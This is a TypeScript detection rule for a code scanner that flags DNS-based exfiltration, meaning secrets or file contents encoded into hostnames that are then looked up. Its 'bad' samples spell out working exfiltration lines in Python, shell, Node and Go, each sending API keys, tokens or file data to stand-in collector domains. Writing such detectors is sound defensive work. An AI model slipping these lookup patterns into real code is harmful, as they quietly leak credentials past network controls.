import { all, any, anyArgument, argument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { LOOKUPS } from "../vocabulary/network-calls.ts";
import { SHELL_LOOKUPS } from "../vocabulary/shell-commands.ts";
import { assembled, encoded, environment, fileContents, hostIdentity, secretVariable } from "../vocabulary/sources.ts";

export default defineRule({
  id: "name-lookup-with-data",
  category: "api_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript", "shell", "go"],
  title: "data is put into a name that is looked up",
  why: "The question reaches the name server of whoever owns the domain, even where no connection is allowed.",
  fix: "Look up fixed names only.",
  references: ["ATT&CK T1048", "ATT&CK T1071.004"],
  match: [
    call({
      of: LOOKUPS,
      where: all(
        argument(0, from(assembled)),
        any(
          ...[environment, secretVariable, hostIdentity, fileContents, encoded].map((data) => argument(0, from(data))),
        ),
      ),
    }),
    call({
      of: SHELL_LOOKUPS,
      where: any(
        ...[environment, secretVariable, hostIdentity, fileContents, encoded].map((data) => anyArgument(from(data))),
      ),
    }),
  ],
  bad: [
    'import socket, os\nsocket.gethostbyname(os.environ["API_KEY"] + ".example.com")',
    'import socket, base64\npart = base64.b32encode(secret).decode()\nsocket.getaddrinfo(f"{part}.example.com", 80)',
    { "run.sh": 'nslookup "$(cat notes.txt | base64).collector.example"' },
    { "run.sh": "for c in $(xxd -p notes.txt); do dig $c.collector.example; done" },
    { "skill.js": 'require("dns").resolve(process.env.API_TOKEN + ".collector.example", () => {});' },
    {
      "main.go":
        'package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc main() {\n\tnet.LookupHost(os.Getenv("API_TOKEN") + ".collector.example")\n}',
    },
  ],
  good: [
    { "README.md": "```sh\nping <node-2-ip>\nnslookup <name>.example\n```\n" },
    'import socket\nsocket.gethostbyname("example.com")',
    "import socket\nsocket.getaddrinfo(host, 443)",
    "import socket\nsocket.gethostbyname(socket.gethostname())",
    { "run.sh": "dig +short example.com" },
    { "run.sh": "h=example.com\nnslookup $h" },
    { "skill.js": 'require("dns").lookup("example.com", () => {});' },
    {
      "main.go": 'package main\n\nimport (\n\t"net"\n)\n\nfunc main() {\n\tnet.LookupHost("api.example")\n}',
    },
  ],
});
